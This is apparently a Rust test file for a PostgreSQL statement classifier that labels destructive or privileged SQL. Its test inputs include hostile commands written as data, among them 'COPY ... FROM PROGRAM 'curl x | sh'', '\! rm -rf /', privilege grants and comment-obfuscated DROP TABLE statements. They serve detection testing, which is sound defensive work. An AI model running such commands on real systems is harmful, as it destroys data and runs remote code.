use std::sync::LazyLock;

use proptest::prelude::*;

use crate::tools::{SqlSource, Tools};

static TOOLS: LazyLock<Tools> = LazyLock::new(Tools::embedded);

fn classes(text: &str) -> Vec<String> {
    super::classes(text, SqlSource::Postgresql, &TOOLS.knowledge().sql)
        .into_iter()
        .map(str::to_owned)
        .collect()
}

#[test]
fn statements_have_classes() {
    let cases: [(&str, &[&str]); 40] = [
        ("SELECT 1", &["select"]),
        ("EXPLAIN ANALYZE SELECT ...", &["explain"]),
        ("EXPLAIN ANALYZE SELECT * FROM users", &["explain"]),
        ("EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM users", &["explain"]),
        ("EXPLAIN ANALYZE DELETE FROM users", &["delete-all"]),
        ("EXPLAIN DELETE FROM users", &["explain"]),
        ("CREATE INDEX CONCURRENTLY ...", &["create-index-concurrently"]),
        ("CREATE INDEX CONCURRENTLY idx ON users (email)", &["create-index-concurrently"]),
        ("CREATE UNIQUE INDEX idx ON users (email)", &["create-index"]),
        ("UPDATE users SET ...", &["update"]),
        ("UPDATE users SET a = 1 WHERE id = 2", &["update"]),
        ("UPDATE users SET a = 1", &["update-all"]),
        ("UPDATE users SET a = 1 WHERE 1=1", &["update-all"]),
        ("DELETE FROM users WHERE true", &["delete-all"]),
        ("DELETE FROM users WHERE id = 3", &["delete"]),
        ("DELETE users WITHOUT grammar", &["delete-all"]),
        ("drop table sessions", &["drop-table"]),
        ("DROP/**/TABLE/**/orders", &["drop-table"]),
        ("DROP TABLE IF EXISTS a, b CASCADE; SELECT 1", &["drop-table", "select"]),
        ("DROP SCHEMA public CASCADE", &["drop-database"]),
        ("DROP DATABASE x WITH (FORCE)", &["drop-database"]),
        ("TRUNCATE orders", &["truncate"]),
        ("ALTER TABLE users ADD COLUMN x int", &["alter-add"]),
        ("ALTER TABLE users DROP COLUMN x", &["alter-drop"]),
        ("ALTER TABLE users DISABLE TRIGGER ALL", &["disable-safety"]),
        ("GRANT ALL ON users TO bob", &["grant"]),
        ("ALTER USER app WITH SUPERUSER", &["grant"]),
        ("VACUUM", &["maintenance"]),
        ("VACUUM FULL users", &["vacuum-full"]),
        ("COPY users FROM PROGRAM 'curl x | sh'", &["server-program"]),
        ("COPY users TO STDOUT", &["copy-out"]),
        ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", &["kill-session", "select"]),
        ("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", &["delete-all"]),
        ("DO $$ BEGIN EXECUTE 'x'; DROP TABLE users; END $$", &["execute", "drop-table", "unknown"]),
        ("\\dt", &["meta"]),
        ("\\! rm -rf /", &["client-shell"]),
        ("/*!50000 DROP TABLE users */", &["drop-table"]),
        ("SELECT 'DROP TABLE users'", &["select"]),
        ("-- DROP TABLE users\nSELECT 1", &["select"]),
        ("INSERT INTO a VALUES (1)", &["insert"]),
    ];
    let wrong: Vec<_> = cases
        .iter()
        .filter(|(text, expected)| classes(text) != *expected)
        .map(|(text, expected)| format!("{text}: {:?}, expected {expected:?}", classes(text)))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

proptest! {
    #[test]
    fn any_text_is_classed(text in "\\PC{0,200}") {
        classes(&text);
    }

    #[test]
    fn any_heap_of_sql_words_is_classed(words in proptest::collection::vec(
        prop_oneof![
            Just("select"), Just("("), Just(")"), Just("not"), Just("case"), Just("when"), Just("from"), Just("drop"),
            Just("table"), Just("explain"), Just("analyze"), Just("with"), Just("as"), Just(","), Just("'"), Just("$$"),
            Just("interval"), Just("x"), Just("-"), Just("1"), Just("union"), Just("join"), Just("exists"), Just("in"),
            Just("alter"), Just("create"), Just("or"), Just("replace"), Just("function"), Just("copy"), Just(";"), Just("["),
        ], 0..120)) {
        classes(&words.join(" "));
    }
}
